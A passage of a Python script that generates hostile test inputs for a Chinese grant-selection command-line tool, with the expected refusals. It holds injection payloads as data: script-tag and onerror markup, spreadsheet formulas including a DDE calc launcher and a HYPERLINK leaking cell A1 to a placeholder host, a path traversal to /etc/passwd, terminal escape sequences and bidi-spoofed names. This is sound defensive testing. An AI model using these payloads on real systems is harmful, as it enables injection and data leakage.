        write_text("big/overrides_50mb_scalar.yaml", OVERRIDES_TEXT.replace(
            "  reason: 2022", "  reason: " + "理" * (N // 3) + "\n  # 2022", 1))
        write_text("big/scenario_50mb_scalar.yaml", SCENARIO_TEXT.replace(
            "note: 专业", "note: " + "说明" * (N // 6) + "\n# note: 专业", 1))
        write_text("big/directions_50mb_scalar.yaml", DIRECTIONS_TEXT.replace(
            "    note: 高技术、前沿", "    note: " + "词" * (N // 3) + "\n    # note: 高技术、前沿", 1))
    for k, where_ in [("policy", "notice"), ("params", "plans (a 50 MB path: ENAMETOOLONG)"),
                      ("overrides", "reason"), ("scenario", "note"), ("directions", "the note of 高技术创新")]:
        ycase(k, f"{k}_50mb_scalar", f"big/{k}_50mb_scalar.yaml", big=True,
              why=f"a 50 MB scalar as {where_} in an otherwise valid file (generated, not committed). Pure-Python PyYAML scans ~1–5 MB/s; the value would also be copied into messages, the manifest and the report. Refuse quickly (a size cap for these small hand-written files), naming the file")

    # ---- duplicate keys ----
    t = POLICY_TEXT.replace(
        "  U2: {mode: soft, enabled: true}                          # 2022未实施或执行率<50%原则上不予资助",
        "  U2: {mode: soft, enabled: true}                          # 2022未实施或执行率<50%原则上不予资助\n"
        "  P1: {mode: soft, enabled: true}\n  U2: {mode: soft, enabled: false}", 1)
    t = t.replace("    quota: 10                   # 指南一(一)2：10个左右",
                  "    quota: 10                   # 指南一(一)2：10个左右\n    quota: 100", 1)
    assert t.count("U2: {mode") == 2
    rel = write_text("yaml/policy_duplicate_keys.yaml", t)
    ycase("policy", "policy_duplicate_keys", rel,
          must=["the message names the duplicated key (rules.U2 and/or tracks[0].quota) and its line"],
          why="rules.U2 written twice (enabled: true where a reviewer looks, enabled: false a line later) and yanxiu's quota 10 then 100: PyYAML silently keeps the last, quietly switching off U2 and multiplying a quota. Duplicate keys must be refused")
    rel = write_text("yaml/params_duplicate_keys.yaml", PARAMS_TEXT + "plans: ../identity/abbrev_zhongkeyuan.csv\n")
    ycase("params", "params_duplicate_keys", rel,
          why="`plans:` given twice; the second silently replaces the reviewed one")
    rel = write_text("yaml/overrides_duplicate_keys.yaml", OVERRIDES_TEXT.replace(
        "- action: waive\n", "- action: waive\n  action: force_include\n  app: P2399001\n", 1))
    ycase("overrides", "overrides_duplicate_keys", rel,
          why="one entry with `action: waive` and `action: force_include`: last-one-wins turns a documented waiver into a forced selection")
    rel = write_text("yaml/scenario_duplicate_keys.yaml", SCENARIO_TEXT.replace("  yanxiu: 8\n", "  yanxiu: 8\n  yanxiu: 80\n", 1)
                     .replace("  U2: true\n", "  U2: true\n  U2: false\n", 1))
    ycase("scenario", "scenario_duplicate_keys", rel,
          why="quotas.yanxiu 8 then 80, rules.U2 true then false: the report would run a scenario other than the one its name and note describe")
    rel = write_text("yaml/directions_duplicate_keys.yaml", DIRECTIONS_TEXT.replace("      高技术: 1.0\n", "      高技术: 1.0\n      高技术: 0.05\n", 1))
    ycase("directions", "directions_duplicate_keys", rel,
          why="the term 高技术 listed twice (1.0, then 0.05): the silent last value demotes a direction word")

    # ---- non-UTF-8 bytes ----
    for k, t in [("policy", POLICY_TEXT), ("params", PARAMS_TEXT.replace("plans.csv", "计划.csv")),
                 ("overrides", OVERRIDES_TEXT), ("scenario", SCENARIO_TEXT), ("directions", DIRECTIONS_TEXT)]:
        t2 = t.replace("“", '"').replace("”", '"').replace("·", ".")
        try:
            data = t2.encode("gbk")
        except UnicodeEncodeError:
            data = t2.encode("gb18030")
        rel = write_bytes(f"yaml/{k}_gbk.yaml", data)
        ycase(k, f"{k}_gbk", rel,
              also_acceptable="decided: decoded as GBK correctly (every Chinese value equal to the original), the same result as the UTF-8 file",
              must=["never mojibake: no value decoded as Latin-1 / with replacement characters is used"],
              why="the whole file saved as GBK (Windows Notepad 'ANSI' on a Chinese system). YAML must be UTF-8/16; PyYAML raises a ReaderError. Say so in Chinese naming the file (ideally: 请另存为 UTF-8)")
    t = POLICY_TEXT.encode("utf-8").replace("# 计划年度".encode(), b"# \xff\xfe \xe8\xae", 1)
    rel = write_bytes("yaml/policy_stray_bytes_in_comment.yaml", t)
    ycase("policy", "policy_stray_bytes_in_comment", rel,
          why="a UTF-8 policy with invalid bytes (FF FE and a truncated sequence) inside the comment after `year:` only; the message should say where (line/byte) rather than dump bytes")
    rel = write_bytes("yaml/overrides_nul_byte.yaml", OVERRIDES_TEXT.replace("测试经办人", "测试\x00经办人").encode())
    ycase("overrides", "overrides_nul_byte", rel, why="a NUL character inside the author: YAML forbids it (special characters are not allowed)")
    rel = write_text("yaml/overrides_utf16.yaml", OVERRIDES_TEXT, encoding="utf-16")
    ycase("overrides", "overrides_utf16_bom", rel, expect="decided", exit=0,
          decision="UTF-16 with BOM is legal YAML: the waiver applies — 中国科学院化学研究所 regains eligibility (P2399001 no longer excluded by U2; the explanation says 已豁免 … 测试经办人)",
          also_acceptable="refused (exit 2) with a Chinese line naming the file and the encoding",
          why="Excel/Notepad 'Unicode text' saves UTF-16LE with a BOM; PyYAML accepts it, a byte-level sniffer may not")

    # ---- other YAML traps ----
    def ptxt(old, new, name, why, **kw):
        assert old in POLICY_TEXT, old
        rel = write_text(f"yaml/{name}.yaml", POLICY_TEXT.replace(old, new, 1))
        ycase("policy", name, rel, why=why, **kw)

    ptxt("    min_days: 3                 # 指南一(一)1", "    min_days: .nan              # 指南一(一)1", "policy_nan_min_days",
         "yanxiu min_days: .nan — every comparison with NaN is False, so `days < min_days` never fires and Y1-DAYS silently disappears. NaN is never a valid threshold")
    ptxt("  min_execution_rate: 0.5", "  min_execution_rate: .nan", "policy_nan_execution_rate",
         "min_execution_rate: .nan — `rate < NaN` is False for every unit: U2 silently never excludes anyone (化学所's 30 % passes)")
    ptxt("  min_execution_rate: 0.5", "  min_execution_rate: 50", "policy_rate_percent",
         "min_execution_rate: 50 (meant 50 %): the guide says 0–1; as written every unit fails U2. Out-of-range must be refused, naming the key")
    ptxt("  U2: {mode: soft, enabled: true}", '  U2: {mode: soft, enabled: "false"}', "policy_enabled_string_false",
         'enabled: "false" (quoted) is a non-empty string — truthy in Python. Must be refused as not a boolean, not treated as true (or as false)')
    ptxt("  U2: {mode: soft, enabled: true}", "  U2: {mode: off, enabled: true}", "policy_mode_off",
         "mode: off is the YAML 1.1 boolean False, not a mode; refuse (hard/soft expected)")
    ptxt("    quota: 10                   # 指南一(一)2", "    quota: " + "9" * 5000 + "   # 指南一(一)2", "policy_huge_int",
         "a 5,000-digit quota: Python ≥3.11 refuses int() of more than 4,300 digits with ValueError (not a YAMLError) inside the YAML constructor — an easy traceback")
    ptxt("    quota: 10                   # 指南一(一)2", "    quota: .inf                 # 指南一(一)2", "policy_quota_inf",
         "quota: .inf — a float infinity where an integer count is required")
    ptxt("    quota: 10                   # 指南一(一)2", "    quota: -1                   # 指南一(一)2", "policy_quota_negative",
         "quota: -1 makes the selection infeasible or meaningless; refuse in policy check, not at solve time")
    ptxt("    days_band: [4, 7]", "    days_band: [7, 4]", "policy_days_band_inverted",
         "days_band [7, 4]: an empty range, so every 人社部高研 fails G1-DAYS")
    ptxt("    default: {direction: 30, scale: 10, duration: 10, openness: 10, joint: 5, track_record: 10, attachments: 5, cost: 10, unit_rank: 10}",
         "    default: {direction: 0, scale: 0, duration: 0, openness: 0, joint: 0, track_record: 0, attachments: 0, cost: 0, unit_rank: 0}",
         "policy_weights_all_zero",
         "all default weights 0: 'automatically normalised' means 0/0 = NaN scores, a NaN objective for the solver")
    ptxt("    default: {direction: 30,", "    default: {direction: -30,", "policy_weight_negative",
         "a negative weight rewards not matching the supported directions")
    ptxt("year: 2023                      # 计划年度", "year: 2023                      # 计划年度\n? [a, b]\n: 1", "policy_unhashable_key",
         "a complex (sequence) mapping key: PyYAML raises ConstructorError 'found unhashable key'")
    ptxt("    name: 专业技术研修班", '    name: "专业技术研修班\\ud800"', "policy_lone_surrogate",
         "the track name ends in a lone surrogate (legal as a YAML escape): `policy check` prints track names, and writing U+D800 to a UTF-8 stdout raises UnicodeEncodeError at print time")
    ptxt("notice: 关于", "notice: !!binary 5YWz5LqO\n# notice: 关于", "policy_binary_tag",
         "notice: !!binary … is a bytes object, not text: refuse as the wrong type rather than printing b'…' in the report header")
    ptxt("directions: directions-2023.yaml", "directions: ../../../../../../../../etc/passwd", "policy_directions_traversal",
         "the directions file points outside the policy folder to /etc/passwd: refuse (not a valid word list), never echo its lines",
         command="check base/plans.csv --roster base/roster.csv --history base/history.csv --policy {file}",
         must=["no output contains 'root:' or any line of /etc/passwd"])
    ptxt("directions: directions-2023.yaml", "directions: /dev/zero", "policy_directions_dev_zero",
         "directions: /dev/zero — an endless file; reading it whole never ends",
         command="check base/plans.csv --roster base/roster.csv --history base/history.csv --policy {file}")

    def otxt(name, text, why, **kw):
        rel = write_text(f"yaml/{name}.yaml", text)
        ycase("overrides", name, rel, why=why, **kw)

    otxt("overrides_lone_surrogate", OVERRIDES_TEXT.replace("  author: 测试经办人", '  author: "测试\\udc80经办人"'),
         "the author contains a lone surrogate (\\udc80): fine for PyYAML, fatal when printed, written to JSON-as-UTF-8 or to the xlsx")
    otxt("overrides_invisible_reason", OVERRIDES_TEXT.replace(
        "  reason: 2022年12月补报支出凭证后执行率超过50%，经处务会研究同意豁免", '  reason: "\\u200b\\u3000 \\u00a0"').replace(
        "  author: 测试经办人", '  author: "\\u200b"'),
        "reason is only zero-width/ideographic/no-break spaces and author a zero-width space: 'every entry must have a reason and an author' — blank after Unicode whitespace/format stripping is no reason",
        must=["the message says the reason/author is empty, naming entry 1"])
    otxt("overrides_action_bool", OVERRIDES_TEXT.replace("- action: waive", "- action: yes"),
         "action: yes is the YAML 1.1 boolean True")
    otxt("overrides_wildcard_rule", OVERRIDES_TEXT.replace("  rule: U2", '  rule: "*"'),
         "rule: '*' — a glob/regex-minded matcher would waive every rule for the unit")
    otxt("overrides_app_list_of_everything", "- action: force_include\n  app: [P2399001, P2399002, P2399003, P2399004, P2399005, P2399006]\n"
         "  reason: 批量\n  author: 测试\n",
         "`app:` given a list: one entry must decide one application; a list must not be iterated as six force_includes (or stringified)")
    otxt("overrides_esc_sequences", OVERRIDES_TEXT.replace(
        "  reason: 2022年12月补报支出凭证后执行率超过50%，经处务会研究同意豁免",
        '  reason: "\\e[2J\\e[1;31m已豁免\\e]0;casplan\\a\\e]8;;http://example.invalid\\a点此\\e]8;;\\a\\e[0m"'),
        expect="decided", exit=0,
        decision="the waiver applies (P2399001 regains eligibility); wherever the reason is printed the escape characters are shown escaped or removed",
        must=["stdout and stderr contain no ESC (0x1b), BEL (0x07) or C1 control bytes", NO_TRACE],
        why="a reason full of terminal escape sequences (clear screen, red text, window title, OSC-8 hyperlink): printing it raw lets a file rewrite the analyst's terminal")

    def stxt(name, text, why, **kw):
        rel = write_text(f"yaml/{name}.yaml", text)
        ycase("scenario", name, rel, why=why, **kw)

    stxt("scenario_weights_all_zero", "name: 权重为零\nweights:\n  yanxiu: {direction: 0, scale: 0, duration: 0, openness: 0, joint: 0, track_record: 0, attachments: 0, cost: 0, unit_rank: 0}\n",
         "all yanxiu weights 0: normalisation divides by zero → NaN scores")
    stxt("scenario_quota_negative", "name: 负名额\nquotas:\n  yanxiu: -5\n", "quota -5")
    stxt("scenario_budget_nan", "name: 经费NaN\nbudget_total: .nan\n",
         "budget_total .nan: `cost <= NaN` is False (nothing fits) or the constraint is dropped (everything fits), depending on the solver")
    stxt("scenario_budget_negative", "name: 负经费\nbudget_total: -100\n", "budget_total -100 万元")
    stxt("scenario_rules_string_false", 'name: 字符串\nrules:\n  U2: "false"\n',
         'rules.U2: "false" — truthy string; must be refused, not read as "U2 on" (nor silently as off)')
    stxt("scenario_rules_pf", "name: 关PF\nrules:\n  PF: false\n",
         "the guide says `rules` can only switch U1 and U2; switching off the hard platform rules from a scenario must be refused")
    stxt("scenario_forced_in_string", "name: 字符串\nforced_in: P2399001\n",
         "forced_in as a string: iterating it would force in 'P', '2', '3' … — must be refused (or read as the one ID, but never char-by-char)")
    stxt("scenario_forced_in_unknown", "name: 未知\nforced_in: [P0000000]\n", "forced_in an ID that does not exist")
    stxt("scenario_huge_int", "name: 大数\nquotas:\n  yanxiu: " + "1" * 5000 + "\n", "a 5,000-digit quota (int() ValueError beyond 4,300 digits)")
    stxt("scenario_lone_surrogate", 'name: "情景\\ud800"\n', "a lone surrogate in the scenario name, which the report prints in its header")

    def ptxt2(name, text, why, **kw):
        rel = write_text(f"yaml/{name}.yaml", text)
        ycase("params", name, rel, why=why, **kw)

    ptxt2("params_robustness_huge", PARAMS_TEXT.replace("robustness_draws: 0", "robustness_draws: 1000000000"),
          "robustness_draws 10^9: about 10^9 × 30 ms ≈ a year of solving. Refuse up front (a sane maximum) rather than letting the 07:30 cron job run forever")
    ptxt2("params_robustness_bool", PARAMS_TEXT.replace("robustness_draws: 0", "robustness_draws: true"),
          "robustness_draws: true — bool is an int in Python (True == 1): silently one draw")
    ptxt2("params_robustness_nan", PARAMS_TEXT.replace("robustness_draws: 0", "robustness_draws: .nan"), "robustness_draws .nan")
    ptxt2("params_include_contacts_string", PARAMS_TEXT + 'include_contacts: "false"\n',
          'include_contacts: "false" — a truthy string; if taken as true, contact names, phones and e-mails go into the xlsx. Must be refused (not a boolean)',
          must=["if, against expectation, a report is produced, 遴选名单.xlsx contains no 联系人/联系人电话/联系人Email column"])
    ptxt2("params_unknown_key_out", PARAMS_TEXT + "out: /etc/casplan-hostile\n",
          "`out:` is not a params key (the guide lists year…include_contacts); an unknown key must be refused, and certainly not obeyed",
          after=["test ! -e /etc/casplan-hostile"])
    ptxt2("params_plans_empty", PARAMS_TEXT.replace("plans: ../base/plans.csv", "plans: []"), "plans: [] — no input at all")
    ptxt2("params_huge_int_year", PARAMS_TEXT.replace("year: 2023", "year: " + "2" * 5000), "a 5,000-digit year")


# --------------------------------------------------------------------------------------
# 3. script / HTML / formula / terminal injection
# --------------------------------------------------------------------------------------

def gen_inject():
    HTML_T = [
        (2399601, SH, "<script>alert(1)</script>高性能计算研修班", "yanxiu", {"培训关键词": "<script>alert('kw')</script>；高性能计算"}),
        (2399602, SH, "<img src=x onerror=alert(1)>同步辐射技术研修班", "yanxiu", {}),
        (2399603, SH, "</style><script>alert(1)</script>电镜技术短期培训班", "duanqi", {}),
        (2399604, SH, "</script><script>alert(1)</script>质谱技术短期培训班", "duanqi", {}),
        (2399605, SH, '<a href="javascript:alert(1)">点我</a>[点我](javascript:alert(1))研修班', "yanxiu", {}),
        (2399606, SH, "{{7*7}}${7*7}<!--<svg/onload=alert(1)>]]>研修班", "yanxiu", {}),
        (2399607, SH, "$\\href{javascript:alert(1)}{x}$&lt;script&gt;短期培训班", "duanqi", {"具体地点": "<iframe src=javascript:alert(1)>"}),
    ]
    FORM_T = [
        (2399611, YJ, '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看详情")', "yanxiu", {}),
        (2399612, SY, "+1+1 研修班", "yanxiu", {}),
        (2399613, WH, "-1+1 研修班", "yanxiu", {}),
        (2399614, SH, "@SUM(1,1) 研修班", "yanxiu", {"联系人": "=1+1", "联系人电话": "+86 10 0000 0000", "联系人Email": "@example.invalid"}),
        (2399615, SH, "＝1+1 短期培训班", "duanqi", {}),
        (2399616, SH, "\t=1+1 短期培训班", "duanqi", {}),
        (2399617, SH, "\r=1+1 短期培训班", "duanqi", {}),
        (2399618, SH, "=cmd|' /C calc'!A0", "duanqi", {"具体地点": "-北京", "培训地点": "本地"}),
    ]
    UNIT_T = [
        (2399621, "<script>alert('unit')</script>研究所", "单位名称含脚本的研修班", "yanxiu", {}),
        (2399622, '=HYPERLINK("http://example.invalid","单位")', "单位名称是公式的研修班", "yanxiu", {}),
    ]
    rows = [plan(i, u, n, t, **o) for i, u, n, t, o in HTML_T + FORM_T + UNIT_T]
    rows.append(plan(2399631, SH, "搁置行里的注入", **{"天数": "=1+1", "经费预算(万元)": "<img src=x onerror=alert('setaside')>"}))
    header = PLAN_COLS + ["自定义列"]
    allrows = BASE_PLANS + rows
    data = [dict(r, 自定义列="=1+1<script>alert('col')</script>") for r in allrows]
    write_text("inject/plans.csv", csv_text(header, data))
    roster = ROSTER + [["<img src=x onerror=alert('roster')>研究所", "研究所", "<script>alert('branch')</script>分院", "=1+1"]]
    write_text("inject/roster.csv", csv_text(ROSTER_COLS, roster))
    write_text("inject/params.yaml", "# 注入语料的报告参数\nyear: 2023\nplans: plans.csv\nhistory: ../base/history.csv\n"
               "roster: roster.csv\nrobustness_draws: 0\ninclude_contacts: true\n")
    write_text("inject/scenario.yaml",
               "name: \"</title><script>alert('scenario')</script>情景\"\n"
               "note: \"<img src=x onerror=alert('note')> =HYPERLINK(\\\"http://example.invalid\\\",\\\"x\\\") [点我](javascript:alert('note'))\"\n"
               "quotas:\n  yanxiu: 10\n")
    write_text("inject/overrides.yaml",
               "- action: waive\n  unit: 中国科学院化学研究所\n  rule: U2\n"
               "  reason: \"<script>alert('reason')</script>补报支出后执行率超过50%\"\n"
               "  author: \"<img src=x onerror=alert('author')>\"\n"
               "- action: force_include\n  app: P2399611\n"
               "  reason: \"=HYPERLINK(\\\"http://example.invalid\\\",\\\"理由\\\")\"\n  author: \"@SUM(1,1)\"\n")
    ids = ", ".join(f"P{i}" for i, *_ in HTML_T + FORM_T + UNIT_T)

    case(case="inject_report_everything", file="inject/params.yaml",
         command="report --params {file} --overrides inject/overrides.yaml --scenario inject/scenario.yaml --out {tmp}",
         expect="decided", limits=LIM_REPORT_OK,
         decision=f"the report is generated (exit 0) — payloads are data, not errors. The waiver for 中国科学院化学研究所 applies (P2399001 eligible again) and P2399611 is forced in; all of {ids} appear in the report's tables under their literal titles/units; the scenario name is shown literally in the header and <title>",
         must=HTML_MUST + XLSX_MUST + [
             "report.pdf shows the payloads as literal text",
             "manifest.json, selection.json and diff.json are valid JSON containing the payload strings unchanged",
             "the roster unit 「<img src=x onerror=alert('roster')>研究所」 is listed (literally) among units that did not submit (P1-MISSING)",
             "the set-aside row (第 25 行: 天数「=1+1」, 经费「<img …>」) appears in the 接收情况 section and the 接收时搁置的行 sheet with its original values, neutralised",
             "the unknown column 自定义列 (=1+1<script>…) is never rendered as markup or formula", NO_TRACE],
         why="every field that reaches the HTML report, the PDF and the xlsx list carries a payload: titles, keywords, places, unit names (also via the roster: unit, branch, alias), contacts (with --include-contacts via include_contacts: true), an unrecognised column, a set-aside row's original values, the override's reason and author, the scenario's name and note")
    case(case="inject_validate_out_xlsx", file="inject/plans.csv",
         command="validate {file} --roster inject/roster.csv --out {tmp}/清洗后.xlsx", expect="decided",
         decision="读取 24，接收 23，搁置 1 (第 25 行, the row with 天数「=1+1」); 清洗后.xlsx written with all payload text preserved",
         must=XLSX_MUST + ["the unrecognised column 自定义列 is kept after the standard columns (as the guide says), neutralised", NO_TRACE],
         why="the cleaned workbook is 'for people and other systems' — it is opened in Excel as surely as the official list")
    case(case="inject_validate_out_csv", file="inject/plans.csv",
         command="validate {file} --roster inject/roster.csv --out {tmp}/清洗后.csv", expect="decided",
         decision="读取 24，接收 23，搁置 1; 清洗后.csv written",
         must=["every field of 清洗后.csv that begins with = + - @ TAB or CR (also ＝) is prefixed so Excel treats it as text (e.g. a leading apostrophe), the rest of the text unchanged",
               "the file parses back to the same number of records and columns (the CR/TAB payloads are quoted, not row breaks)", NO_TRACE],
         why="CSV/formula injection: a CSV opened by double-click in Excel evaluates =HYPERLINK, =cmd|…, @SUM")
    case(case="inject_check_overrides_terminal", file="inject/overrides.yaml",
         command="check inject/plans.csv --roster inject/roster.csv --history base/history.csv --overrides {file} --json",
         expect="decided",
         decision="exit 0; the U2 waiver for 中国科学院化学研究所 and the force_include of P2399611 are accepted (both have a reason and an author); --json output is valid JSON with the payload strings intact",
         must=[NO_TRACE], why="the override payloads on the terminal/JSON path (no HTML involved) must neither break parsing nor be refused for their content")

    # sheet names with payloads + a set-aside row in each
    srows = plan_rows([plan(2399641, SH, "工作表名注入的研修班", **{"天数": "三到五天"})])
    build_xlsx("inject/sheetnames.xlsx", [("<img src=x onerror=alert(1)>", sheet_xml(srows)),
                                          ("=1+1", sheet_xml(plan_rows([plan(2399642, SH, "第二张表", **{"天数": "待定"})], base=False)))])
    write_text("inject/params_sheetnames.yaml", "year: 2023\nplans: sheetnames.xlsx\nhistory: ../base/history.csv\n"
               "roster: ../base/roster.csv\nrobustness_draws: 0\n")
    case(case="inject_sheet_names_validate", file="inject/sheetnames.xlsx",
         command="validate {file} --out {tmp}/清洗后.xlsx --json", expect="decided",
         decision="读取 8，接收 6，搁置 2: 第 8 行 of sheet「<img src=x onerror=alert(1)>」 and 第 2 行 of sheet「=1+1」 set aside (天数 范围 / 待定)",
         must=XLSX_MUST + ["the 来源工作表 column holds the sheet names as text", NO_TRACE],
         why="worksheet names are user data too: they appear in every set-aside message, in the cleaned file's 来源工作表 column and in the report's intake section")
    case(case="inject_sheet_names_report", file="inject/params_sheetnames.yaml", command="report --params {file} --out {tmp}",
         expect="decided", limits=LIM_REPORT_OK, decision="report generated; the sheet names appear literally in 十、接收情况 and in 接收时搁置的行",
         must=HTML_MUST[:3] + XLSX_MUST[:2] + [NO_TRACE], why="the same sheet names through the HTML/PDF/xlsx report")

    # hostile file names (created at run time; not committed because of '<' '>' '=' in names)
    plans_csv("inject/filename_src1.csv", [plan(2399651, SH, "文件名注入的研修班")], base=False)
    plans_csv("inject/filename_src2.csv", [plan(2399652, SH, "文件名注入的短期培训班", "duanqi")], base=False)
    setup = ["mkdir -p {tmp}/in", "cp inject/filename_src1.csv '{tmp}/in/=1+2.csv'",
             "cp inject/filename_src2.csv '{tmp}/in/<svg onload=alert(1)>.csv'",
             "cp base/plans.csv \"{tmp}/in/$(printf 'esc\\033[2Jname.csv')\""]
    case(case="inject_file_names_validate", file=None, setup=setup,
         command="validate {tmp}/in --roster base/roster.csv --out {tmp}/清洗后.xlsx", expect="decided",
         decision="读取 8，接收 8 from three files; the file names appear in the per-file lines",
         must=XLSX_MUST[:2] + ["the 来源文件 column holds '=1+2.csv' etc. as text, not a formula",
                               "stdout/stderr contain no raw ESC byte (the third file name contains ESC [2J)", NO_TRACE],
         why="file names are chosen by whoever sends the export: '=1+2.csv' lands in the 来源文件 column, '<svg onload=…>.csv' in the report, an ESC sequence in the terminal")
    case(case="inject_file_names_report", file=None, setup=setup,
         command="report --plans {tmp}/in --history base/history.csv --roster base/roster.csv --robustness-draws 0 --out {tmp}/reports",
         expect="decided", limits=LIM_REPORT_OK, decision="report generated; the three file names are shown literally in the intake section",
         must=HTML_MUST[:3] + XLSX_MUST[:2] + [NO_TRACE], why="the hostile file names through the report")

    # terminal escapes in values echoed by validate
    term = [plan(2399661, SH, "\x1b]0;pwned\x07\x1b[2J终端注入研修班", **{"天数": "\x1b[31m三到五天\x1b[0m"}),
            plan(2399662, SH, "\x1b]8;;http://example.invalid\x07链接\x1b]8;;\x07研修班", **{"经费预算(万元)": "\u009b31m待定"}),
            plan(2399663, "\u202e所究研理物院学科国中", "双向控制字符研修班", **{"学员计划参加人数": "\u202e001"})]
    plans_csv("inject/terminal.csv", term)
    case(case="inject_terminal_escapes", file="inject/terminal.csv", command="validate {file} --roster base/roster.csv",
         expect="decided",
         decision="读取 9，接收 6，搁置 3 (天数 range with colour codes, 经费 '待定' behind a C1 CSI, 人数 behind U+202E); the I-UNIT-UNKNOWN hint for P2399663's unit",
         must=["stdout and stderr contain no ESC (0x1b), BEL (0x07) or C1 (U+0080–U+009F) characters: they are shown escaped (e.g. \\x1b) or dropped",
               "bidi controls (U+202E) in echoed values are shown visibly (e.g. <U+202E>), so 「所究研理物院学科国中」 is not displayed as 中国科学院物理研究所", NO_TRACE],
         why="set-aside messages echo the original value; values with ANSI/OSC sequences would clear the screen, retitle the window or plant a hyperlink; a bidi override makes a fake unit name look real in the terminal")


# --------------------------------------------------------------------------------------
# 4. identity tricks
# --------------------------------------------------------------------------------------

def gen_identity():
    variants = [
        ("abbrev_zhongkeyuan", "中科院化学所", "中科院物理所", "the common short form 中科院…所 (the roster only knows 化学所 / 物理所 as aliases)"),
        ("traditional", "中國科學院化學研究所", "中國科學院物理研究所", "traditional characters (as typed by a Hong Kong/Taiwan collaborator or an IME in 繁体 mode)"),
        ("variation_selector_fe0f", "中国科学院化学\ufe0f研究所", "中国科学院物理研究所\ufe0f", "an invisible VARIATION SELECTOR-16 (U+FE0F) inside/after the name"),
        ("zero_width_space", "中国科学院\u200b化学研究所", "中国科学院物理\u200b研究所", "an invisible ZERO WIDTH SPACE (U+200B) inside the name"),
        ("bidi_override", "\u202e所究研学化院学科国中\u202c", "中国科学院物理研究所\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE: 「所究研学化院学科国中」 displays as 中国科学院化学研究所; the second name carries a trailing override"),
        ("no_break_space", "中国科学院\u00a0化学研究所", "中国科学院物理研究所\u00a0", "a NO-BREAK SPACE (U+00A0) inside / after the name"),
        ("ideographic_space", "中国科学院\u3000化学研究所", "\u3000中国科学院物理研究所\u3000", "IDEOGRAPHIC SPACE (U+3000) inside / around the name"),
        ("other_invisibles", "中国科学院\ufeff化学\u2060研究\u00ad所", "中国科学院\u200d物理\u200c研究所", "BOM U+FEFF, WORD JOINER U+2060, SOFT HYPHEN U+00AD, ZWJ U+200D, ZWNJ U+200C inside the names"),
        ("ascii_space", "中国科学院 化学研究所", "中国科学院物理研究所 ", "an ASCII space inside the name, a trailing space after the other"),
        ("alias_known", "化学所", "物理所", "the roster's own declared aliases (control: must obviously work)"),
    ]
    for name, hx, wl, how in variants:
        rel = plans_csv(f"identity/{name}.csv", [
            plan(2399101, hx, "电化学储能技术研修班"),
            plan(2399102, wl, "凝聚态物理实验技术短期培训班", "duanqi"),
        ])
        case(case=f"identity_{name}", file=rel, command=SEL, expect="decided",
             decision="P2399101 (written as 中国科学院化学研究所 in another spelling) is NOT selected — it is 化学所's application and 化学所's 2022 rate is 30 % (U2-LOW-RATE); of P2399002 and P2399102 (both 中国科学院物理研究所) at most ONE is selected (U1: 每所原则上一项)",
             must=["P2399101 not selected", "not both P2399002 and P2399102 selected", NO_TRACE,
                   "if a spelling is not resolved to the roster unit, the output names it (I-UNIT-UNKNOWN) with invisible/bidi characters made visible, and the application is still not funded as if it were a new, clean unit"],
             should="the name is resolved to the roster unit (NFKC + removal of format characters + declared aliases; traditional→simplified or a 'did you mean 中国科学院化学研究所' hint), and the report lists both applications under the canonical unit",
             why=f"{how}. A spelling the roster lookup does not recognise becomes a new unit with no 2022 history (escaping U2) and no unit type 'institute' (escaping U1) — money moves because of a character nobody can see")

    # a name close to several roster units (fuzzy matching would have to guess)
    rel = plans_csv("identity/fuzzy_ambiguous_unit.csv", [plan(2399103, "中国科学院化学物理研究所", "电化学储能技术研修班")])
    case(case="identity_fuzzy_ambiguous_unit", file=rel, command=SEL, expect="decided",
         decision="P2399103 (单位「中国科学院化学物理研究所」, not in the roster) is not selected: its unit cannot be determined — the name is about equally close to 中国科学院大连化学物理研究所 (difflib ratio 0.92), 中国科学院化学研究所 (0.91) and 中国科学院物理研究所 (0.91)",
         must=["P2399103 not selected", "P2399003 (大连化物所) still selected — it does not lose its one place (U1) to an application that was merely guessed to be its own", NO_TRACE],
         should="the output names the candidate roster units and asks for the name to be fixed (I-UNIT-UNKNOWN or an ambiguity hint)",
         why="'recognise similar names' (the policy's units.similarity, 0.85) is itself an attack surface: this name clears 0.85 against three roster units. Assigned to 大连化物所 it inherits a 100 % execution record and competes for 大连's U1 place; it may really be 化学所 (30 %, U2-excluded) with one word dropped")

    # a GBK file with one UTF-8 encoded unit name (decodes silently as GB18030 mojibake)
    lines = csv_text(PLAN_COLS, BASE_PLANS).encode("gbk")
    row = plan(2399111, "@@UNIT@@", "电化学储能技术研修班")
    line = csv_text(PLAN_COLS, [row]).split("\r\n", 1)[1].encode("gbk").replace(b"@@UNIT@@", HX.encode("utf-8"))
    data = lines + line
    data.decode("gb18030")  # decodes without error: that is the point
    write_bytes("identity/mixed_encoding.csv", data)
    case(case="identity_mixed_encoding_utf8_name_in_gbk", file="identity/mixed_encoding.csv", command=SEL, expect="refused",
         also_acceptable="decided: the file read as GBK, and row 8's unit (涓\\ue15e浗绉戝… = the UTF-8 bytes of 中国科学院化学研究所) set aside or flagged as unreadable text — never accepted as a new unit",
         must=["P2399111 not selected", NO_TRACE],
         why="a GBK export in which one line's 单位名称 is UTF-8 (pasted from a web form). The whole file decodes as GB18030 without a single error, turning 中国科学院化学研究所 into 「涓\\ue15e浗绉戝\\ue11f闄㈠寲瀛︾爺绌舵墍」 — private-use characters in a unit name are a sure sign; as a 'new unit' it would dodge U2")

    # same project three times
    t1 = plan(2399201, BJ, "前沿光电技术研修班（2023）")
    t2 = plan(2399202, BJ, "前沿光电技术研修班(2023) ")
    rel = plans_csv("identity/same_project_three_times.csv", [t1, t2, dict(t1)])
    case(case="same_project_three_times", file=rel, command=SEL, expect="decided",
         decision="only one of the three rows is an application; the other two set aside as duplicates (rows 9 and 10 named, each with the row 8 it duplicates)",
         must=["at most one of P2399201 / P2399202 selected", "P2399201 appears once in the selection output (never two entries with the same 申报编号)",
               "its 10 万元 counted once in the budget", NO_TRACE],
         why="中国科学院北京分院 (a branch: U1 does not stop it) files 「前沿光电技术研修班（2023）」, the same with ASCII brackets and a trailing space under a new platform ID, and the first row again with the same platform ID. The guide's I-DUPLICATE is only a hint; unchecked, one project takes three of ten 研修班 places and 30 万元")

    a = plan(2399301, YJ, "有机合成新方法研修班")
    b = plan(2399301, YC, "有机合成新方法研修班", **{"经费预算(万元)": "50"})
    rel = plans_csv("identity/same_id_conflicting_rows.csv", [a, b])
    case(case="same_id_conflicting_rows", file=rel, command=SEL, expect="refused",
